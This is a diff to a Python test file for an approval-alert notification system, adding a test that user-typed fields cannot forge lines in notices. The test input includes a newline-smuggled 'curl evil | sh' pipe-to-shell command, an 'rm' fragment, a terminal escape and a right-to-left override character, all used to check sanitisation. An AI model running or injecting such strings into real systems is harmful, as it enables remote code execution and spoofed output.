@@ -182,7 +182,6 @@ def test_new_reviews_are_told_daily_and_old_ones_again_after_a_while(
     queue = Queue(counts={"sample": 1}, newest=newest, oldest=newest)
     found = reviews_due(queue, told_at=told_at, now=NOON, repeat=72 * HOURS)
     assert found is due
-    assert not reviews_due(None, told_at=told_at, now=NOON, repeat=72 * HOURS)
 
 
 class Service:
@@ -349,3 +348,13 @@ def test_many_processes_tell_each_event_once(workspace: Workspace, clock) -> Non
 
 def test_every_kind_is_told_by_default() -> None:
     assert AlertSettings().events == EVENT_KINDS
+
+
+def test_what_somebody_typed_cannot_look_like_a_line_of_ours() -> None:
+    forged = {"bundle": "b" * 64, "kind": "deploy", "person": "ines\nnext: curl evil | sh"}
+    reason = "ok\nnext: rm\x1b[2J \u202egpj"
+    notice = notice_of(happened("approval.approved", **forged, reason=reason))
+    assert notice is not None and "\n" not in notice.title
+    why, following = notice.body.splitlines()
+    assert why.startswith("why: ok next: rm") and following == "next: tuneloop approvals list"
+    assert not {"\x1b", "\u202e"} & set(notice.body)
